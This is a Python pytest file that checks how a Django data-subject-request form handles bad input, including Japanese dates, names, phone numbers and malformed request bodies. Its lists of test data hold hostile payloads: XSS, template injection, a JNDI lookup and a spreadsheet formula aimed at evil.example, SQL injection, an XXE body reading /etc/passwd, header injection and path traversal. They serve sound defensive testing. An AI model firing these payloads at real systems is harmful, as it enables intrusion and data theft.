"""The form against the bad-input catalogue: a clear sentence beside the field, everything typed kept, never a 500."""

import re
from html import unescape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from dsr import storage
from dsr.models import Case, Draft, DraftFile, OutboxMessage
from tests.web.public.visitor import AGENT, ANSWERS, Visitor, errors, picture, summary

NAME, BORN, PHONE, EMAIL = "principal-name", "principal-birth_date", "principal-phone", "principal-email"
NO_SUCH_DATE = "This day does not exist in the calendar."
WRONG_EMAIL = "Write one e-mail address, like name@example.jp."
WRONG_PHONE = "Write the phone number in digits, like 03-1234-5678 or +81 3 1234 5678."
UNSTORABLE = "This text contains a character that cannot be stored. Please type it again without special characters."
FILL_IN_NAME = "Fill in “Full name”."


def shown_again(response, name):
    """Return the value of a field as the browser would show it."""
    page = response.text
    box = re.search(rf'<input[^>]*name="{name}"[^>]*>', page)
    if box:
        value = re.search(r'value="([^"]*)"', box[0])
        return unescape(value[1]) if value else ""
    return unescape(re.search(rf'<textarea[^>]*name="{name}"[^>]*>\n?(.*?)</textarea>', page, re.DOTALL)[1])


def test_refuses_an_empty_form_field_by_field(visitor):
    response = visitor.client.post(visitor.form_url, {})
    assert response.status_code == 422
    assert errors(response) == {
        "id_kinds": "Choose at least one right.",
        "id_principal-name": FILL_IN_NAME,
        "id_principal-address": "Fill in “Address”.",
        "id_principal-phone": "Give a phone number or an e-mail address, so that we can reach you.",
        "id_reply_method": "Choose an answer for “How shall we reply?”.",
    }
    assert summary(response) == [
        "id_kinds_0",
        "id_principal-name",
        "id_principal-address",
        "id_principal-phone",
        "id_reply_method_0",
    ]
    assert Case.objects.count() == 0


BAD = [
    pytest.param(NAME, "   ", FILL_IN_NAME, id="F2 spaces"),
    pytest.param(NAME, "\u3000\u3000", FILL_IN_NAME, id="F2 ideographic spaces"),
    pytest.param(NAME, "\u200b\u200d\ufeff", FILL_IN_NAME, id="F2 zero width"),
    pytest.param(NAME, "あ" * 10_000, "Write at most 200 characters. You wrote 10,000.", id="F3 10,000 characters"),
    pytest.param(NAME, "山\x00田", UNSTORABLE, id="F6 NUL"),
    pytest.param(NAME, "山\x07田", UNSTORABLE, id="F6 control character"),
    pytest.param(EMAIL, "a@b\r\nBcc: x@y.jp", WRONG_EMAIL, id="F10 header injection"),
    pytest.param(EMAIL, "a@b", WRONG_EMAIL, id="F11 no top-level domain"),
    pytest.param(EMAIL, "a@@b.jp", WRONG_EMAIL, id="F11 two at signs"),
    pytest.param(EMAIL, "a@b.jp,d@e.jp", WRONG_EMAIL, id="F11 list"),
    pytest.param(EMAIL, "Taro <a@b.jp>", WRONG_EMAIL, id="F11 display name"),
    pytest.param(EMAIL, "a@b.jp.", WRONG_EMAIL, id="F11 trailing dot"),
    pytest.param(PHONE, "ゼロナナゴ", WRONG_PHONE, id="F13 words"),
    pytest.param(PHONE, "075-ABC-0000", WRONG_PHONE, id="F13 letters"),
    pytest.param(PHONE, "123", WRONG_PHONE, id="F13 too short"),
    pytest.param(BORN, "1980-02-31", NO_SUCH_DATE, id="F14 31 February"),
    pytest.param(BORN, "1900-02-29", NO_SUCH_DATE, id="F14 no leap year"),
    pytest.param(BORN, "2030-01-01", "This date lies in the future.", id="F14 future"),
    pytest.param(BORN, "0001-01-01", "Check the year of this date.", id="F14 year 1"),
    pytest.param(BORN, "令和7年2月30日", NO_SUCH_DATE, id="F14 era, no such day"),
    pytest.param(BORN, "昭和100年4月1日", "This day does not belong to that era.", id="F14 Showa 100"),
    pytest.param(BORN, "平成31年5月1日", "This day does not belong to that era.", id="F14 after the era"),
    pytest.param(
        "principal-postal_code", "617-002", "Write the postal code with seven digits, like 617-0002.", id="postal"
    ),
    pytest.param(
        "scope_disclosure", "あ" * 2001, "Write at most 2,000 characters. You wrote 2,001.", id="F29 long text"
    ),
    pytest.param(
        "scope_disclosure", "x" * 60_000, "Write at most 2,000 characters. You wrote 60,000.", id="F29 one word"
    ),
    pytest.param(
        "scope_disclosure", "a\n" * 50_000, "Write at most 2,000 characters. You wrote 99,999.", id="F29 lines"
    ),
    pytest.param("reply_method", "fax", "Choose one of the answers shown.", id="F15 unknown reply method"),
    pytest.param("kinds", ["close_the_case"], "Choose from the answers shown.", id="F15 unknown right"),
    pytest.param("category", "staff", "Choose one of the answers shown.", id="F15 unknown category"),
]


@pytest.mark.parametrize(("field", "value", "sentence"), BAD)
def test_names_what_is_wrong_and_keeps_the_rest(visitor, field, value, sentence):
    response = visitor.send({field: value})
    assert (response.status_code, errors(response)) == (422, {f"id_{field}": sentence})
    kept = {
        name: shown_again(response, name) for name in (NAME, "principal-address", "scope_disclosure") if name != field
    }
    assert kept == {name: ANSWERS[name] for name in kept}
    assert (Case.objects.count(), OutboxMessage.objects.count()) == (0, 0)


def test_shows_a_name_that_is_too_long_again_in_full(visitor):
    assert shown_again(visitor.send({NAME: "あ" * 10_000}), NAME) == "あ" * 10_000


def test_keeps_little_of_what_is_far_too_long(visitor):
    visitor.send({"scope_disclosure": "x" * 1_000_000})
    assert len(Draft.objects.get().typed["scope_disclosure"][0]) == 20_000


GOOD_NAMES = [
    "髙﨑 𠮷男",
    "葛󠄀城 花子",
    "Ünïcødé Ñame",
    "محمد علي",
    "山田 😀",
    "ﾔﾏﾀﾞ ﾀﾛｳ",
    "ＴＡＲＯ",
    "神\ufa19 太郎",
    "O'Neill-Smith",
]


@pytest.mark.parametrize("name", GOOD_NAMES)
def test_keeps_every_true_name_to_the_byte(visitor, name):
    visitor.ask({NAME: name})
    assert Case.objects.get().principal.name == name


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("http://evil.example")',
    "gpj\u202eexe.jpg",
    "' OR 1=1 --",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_shows_hostile_text_as_text(visitor, text):
    visitor.send({NAME: text, "scope_disclosure": text, "principal-address": text})
    page = visitor.look()
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert "\u202e" not in page.text
    visitor.confirm()
    assert Case.objects.get().principal.name == text


PHONES = ["+81-75-922-0000", "０７５－９２２－００００", "(075) 922 0000", "090ー1234ー5678"]


@pytest.mark.parametrize("phone", PHONES)
def test_takes_a_phone_number_as_people_write_it(visitor, phone):
    visitor.ask({PHONE: phone})
    assert Case.objects.get().principal.phone == phone


@pytest.mark.parametrize("address", ["a.b+c@example.co.jp", '"quoted"@example.jp', "x@xn--fsq.example"])
def test_takes_an_unusual_but_right_mail_address(visitor, address):
    visitor.ask({EMAIL: address})
    assert Case.objects.get().principal.email == address


@pytest.mark.parametrize(
    ("typed", "kept"), [("６１７ー０００２", "617-0002"), ("〒617 0002", "617-0002"), ("6170002", "617-0002"), ("", "")]
)
def test_writes_a_postal_code_the_usual_way(visitor, typed, kept):
    visitor.ask({"principal-postal_code": typed})
    assert Case.objects.get().principal.postal_code == kept


def test_ignores_fields_that_the_form_does_not_have(visitor):
    visitor.ask(
        {
            "state": "replied",
            "desk": "1",
            "verified": "true",
            "regime": "US-CA",
            "language": "../../etc",
            "next": "//evil",
        }
    )
    case = Case.objects.get()
    assert (case.state, case.desk.slug, case.regime, case.language) == ("received", "omron-software", "JP-APPI", "en")


def test_takes_the_last_of_doubled_answers(visitor):
    visitor.ask({NAME: ["山田", "田中"], "reply_method": ["electronic", "writing"]})
    case = Case.objects.get()
    assert (case.principal.name, case.reply_method) == ("田中", "writing")


def test_asks_the_questions_of_chosen_rights_only(visitor):
    response = visitor.send(kinds=["correction", "cease_use"], scope_disclosure="x" * 3000)
    assert errors(response) == {
        "id_correction_correction": "Write what is wrong, and what is right instead.",
        "id_ground_cease_use": "Choose the reason for “Stop of use, erasure or stop of provision (no longer needed, leak, or harm)”.",
    }


def test_asks_for_no_address_where_the_law_needs_none(desks):
    european = Visitor("citizen-systems-japan", "DE")
    european.ask(
        {
            "principal-address": None,
            "principal-postal_code": "D-10117",
            "kinds": ["gdpr_access"],
            "scope_disclosure": None,
        }
    )
    case = Case.objects.get()
    assert (case.regime, case.residence, case.principal.postal_code) == ("EU-GDPR", "DE", "D-10117")


def test_asks_for_an_address_when_the_reply_goes_by_post(desks):
    european = Visitor("citizen-systems-japan", "DE")
    response = european.send({"principal-address": None, "kinds": ["gdpr_access"], "reply_method": "writing"})
    assert errors(response) == {"id_principal-address": "Fill in “Address”."}


AGENTS = [
    pytest.param(
        "appointed_agent",
        {"id_agent-name": "Fill in “Name of the agent”."},
        {"agent-name": ""},
        id="F31 agent without name",
    ),
    pytest.param("appointed_agent", {"id_principal-name": FILL_IN_NAME}, {NAME: ""}, id="F31 no principal"),
    pytest.param(
        "qualified_agent",
        {"id_agent-organisation": "Fill in “Office or firm”."},
        {"agent-organisation": ""},
        id="no office",
    ),
    pytest.param(
        "minor_agent",
        {"id_principal-birth_date": "Fill in “Date of birth”."},
        {BORN: ""},
        id="minor without birth date",
    ),
    pytest.param(
        "minor_agent",
        {
            "id_principal-birth_date": "This person is an adult. Adults make the request themselves or appoint an agent: "
            "go back and choose who is asking."
        },
        {BORN: "2008-11-16"},
        id="of age yesterday",
    ),
    pytest.param(
        "appointed_agent",
        {
            "id_agent-name": "The agent and the data subject are the same person. If you ask for yourself, "
            "go back and choose “I ask for myself”."
        },
        {"agent-name": "髙﨑　𠮷男", "agent-address": ANSWERS["principal-address"]},
        id="F31 the same person",
    ),
]


@pytest.mark.parametrize(("who", "expected", "changes"), AGENTS)
def test_tells_an_agent_what_is_missing(desks, who, expected, changes):
    response = Visitor(who=who).send({**AGENT, "agent-organisation": "さくら法律事務所", **changes})
    assert (response.status_code, errors(response)) == (422, expected)


def test_takes_a_request_of_a_parent_without_papers(desks):
    Visitor(who="minor_agent").ask({**AGENT, BORN: "2011-05-10", PHONE: "", EMAIL: ""})
    case = Case.objects.get()
    assert (case.agent.name, case.principal.birth_date, case.requester_type) == (
        "佐藤 花子",
        "2011-05-10",
        "minor_agent",
    )
    assert [item.code for item in case.items.all()] == ["identity_of_principal", "identity_of_agent", "kinship"]


# -- what is no form at all


def test_shows_the_form_again_when_the_token_is_missing(desks):
    visitor = Visitor(enforce_csrf_checks=True)
    response = visitor.send()
    assert (response.status_code, shown_again(response, NAME)) == (403, ANSWERS[NAME])
    assert "allow cookies" in response.text
    assert "075-925-0064" in response.text
    assert (Draft.objects.count(), Case.objects.count()) == (0, 0)


def test_shows_the_form_again_when_the_trap_is_filled(visitor):
    response = visitor.send(website="https://spam.example")
    assert (response.status_code, shown_again(response, NAME), shown_again(response, "website")) == (
        403,
        ANSWERS[NAME],
        "",
    )
    assert (Draft.objects.count(), Case.objects.count()) == (0, 0)


@pytest.mark.parametrize("method", ["head", "put", "delete", "trace", "patch", "options"])
def test_refuses_other_methods(visitor, method):
    assert getattr(visitor.client, method)(visitor.form_url).status_code == 405


def test_knows_no_method_override(visitor):
    assert (
        visitor.client.post(visitor.form_url, ANSWERS, headers={"x-http-method-override": "DELETE"}).status_code == 302
    )


OTHER_BODIES = [
    pytest.param("application/json", b'{"kinds": ["disclosure"]}', 415, id="F22 JSON"),
    pytest.param("text/xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', 415, id="F22 XXE"),
    pytest.param("text/plain", b"kinds=disclosure", 415, id="plain text"),
    pytest.param("application/x-www-form-urlencoded; charset=shift_jis", b"kinds=disclosure", 400, id="F23 Shift_JIS"),
    pytest.param("multipart/form-data; boundary=x; charset=utf-7", b"--x--\r\n", 400, id="F23 UTF-7"),
    pytest.param("multipart/form-data", b"--x\r\n", 400, id="F21 no boundary"),
    pytest.param("multipart/form-data; boundary=" + "x" * 300, b"--x\r\n", 400, id="F21 long boundary"),
    pytest.param(
        "application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(1001)), 400, id="F19 1,001 fields"
    ),
    pytest.param("application/x-www-form-urlencoded", b"a=" + b"x" * 3_000_000, 413, id="F20 3 MB of text"),
]


@pytest.mark.parametrize(("content_type", "body", "status"), OTHER_BODIES)
def test_refuses_what_is_no_form(visitor, content_type, body, status):
    response = visitor.client.post(visitor.form_url, body, content_type=content_type)
    assert (response.status_code, Draft.objects.count(), Case.objects.count()) == (status, 0, 0)


def test_refuses_101_files(visitor):
    files = {f"document_{number}": SimpleUploadedFile("a.jpg", b"x") for number in range(101)}
    assert visitor.client.post(visitor.form_url, {**ANSWERS, **files}).status_code == 400
    assert DraftFile.objects.count() == 0


MULTIPART = "multipart/form-data; boundary=frontier"
BROKEN = [
    pytest.param(
        b'--frontier\r\nContent-Disposition: form-data; name="principal-name"\r\n\r\nTaro', id="F21 not closed"
    ),
    pytest.param(
        b'--frontier\r\nContent-Disposition: form-data; name="x"' + b"y" * 70_000 + b"\r\n\r\nz\r\n--frontier--",
        id="F21 header",
    ),
    pytest.param(
        b"--frontier\r\nContent-Type: multipart/mixed; boundary=inner\r\n"
        b'Content-Disposition: form-data; name="f"\r\n\r\n'
        b'--inner\r\nContent-Disposition: file; filename="a.jpg"\r\n\r\nx\r\n--inner--\r\n--frontier--\r\n',
        id="F21 nested",
    ),
]


@pytest.mark.parametrize("body", BROKEN)
def test_survives_a_broken_body(visitor, body):
    response = visitor.client.post(visitor.form_url, body, content_type=MULTIPART)
    assert response.status_code in {400, 422}
    assert Case.objects.count() == 0


@pytest.mark.parametrize(
    "bytes_of_name",
    [b"\x8e\x52\x93\x63", b"\xed\xa0\x80", b"\xc3\x28", "山田".encode("euc-jp")],
    ids=lambda name: name.hex(),
)
def test_refuses_a_name_that_is_not_utf_8(visitor, bytes_of_name):
    """F6 and F23: what was meant is lost, so the person is asked again."""
    body = b"principal-name=" + b"".join(b"%%%02X" % byte for byte in bytes_of_name)
    response = visitor.client.post(visitor.form_url, body, content_type="application/x-www-form-urlencoded")
    assert errors(response)["id_principal-name"] == UNSTORABLE


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example"])
def test_answers_to_its_own_name_only(desks, host):
    assert Client().get("/", headers={"host": host}).status_code == 400


def test_never_uses_a_forwarded_host(visitor):
    number, _secret = visitor.ask()
    page = visitor.client.get(visitor.receipt_url, headers={"x-forwarded-host": "evil.example"})
    assert (number in page.text, "evil.example" in page.text) == (True, False)


# -- coming back


def test_brings_back_what_was_typed_on_another_day_part(visitor):
    visitor.send({BORN: "令和7年2月30日"})
    again = visitor.open()
    assert [shown_again(again, name) for name in (NAME, BORN)] == [ANSWERS[NAME], "令和7年2月30日"]


def test_shows_the_form_in_the_other_language_with_what_was_typed(visitor):
    answer = visitor.send(show_in="ja")
    assert answer.url == f"{visitor.form_url}&lang=ja"
    page = visitor.client.get(answer.url)
    assert ('lang="ja"' in page.text, shown_again(page, NAME)) == (True, ANSWERS[NAME])


def test_forgets_nothing_when_the_first_answers_change(visitor):
    visitor.send()
    agent = Visitor(who="appointed_agent")
    agent.client = visitor.client
    assert shown_again(agent.open(), NAME) == ANSWERS[NAME]


@pytest.mark.parametrize("cookie", ["x", "abc:def", "a:1a:b", "💥".encode().decode("latin-1")])
def test_counts_a_forged_cookie_as_none(desks, cookie):
    visitor = Visitor()
    visitor.client.cookies["dsr_draft"] = cookie
    assert visitor.look().status_code == 410
    assert visitor.send().status_code == 302


def test_leads_a_visitor_without_a_cookie_to_phone_and_post(desks):
    page = Visitor().look()
    assert (page.status_code, "075-925-0064" in page.text, "Allow cookies" in page.text) == (410, True, True)


def test_takes_a_form_that_was_open_for_a_day_and_an_hour(visitor, at):
    at("2026-11-18 11:30")
    assert visitor.send().url == visitor.check_url
    assert visitor.look().status_code == 200


def test_gives_the_cookie_to_one_desk_only(visitor):
    cookie = visitor.client.cookies["dsr_draft"]
    assert (cookie["path"], cookie["httponly"], cookie["samesite"], cookie["max-age"]) == (
        "/desks/omron-software/",
        True,
        "Lax",
        86400,
    )
    assert {"session", "sessionid"} & set(visitor.client.cookies) == set()


def test_offers_no_form_where_the_desk_takes_paper(desks):
    visitor = Visitor("net-one-systems")
    page = visitor.open()
    assert (page.status_code, "This desk takes requests on paper" in page.text) == (200, True)
    assert visitor.send().status_code == 200
    assert Draft.objects.count() == 0


def test_keeps_files_and_words_sealed(visitor):
    visitor.send({"document_identity_of_principal": picture(), BORN: "x"})
    [draft], [kept] = Draft.objects.all(), DraftFile.objects.all()
    assert b"JFIF" not in storage.get(kept.key)
    assert ANSWERS[NAME].encode() not in bytes(draft.sealed_typed)
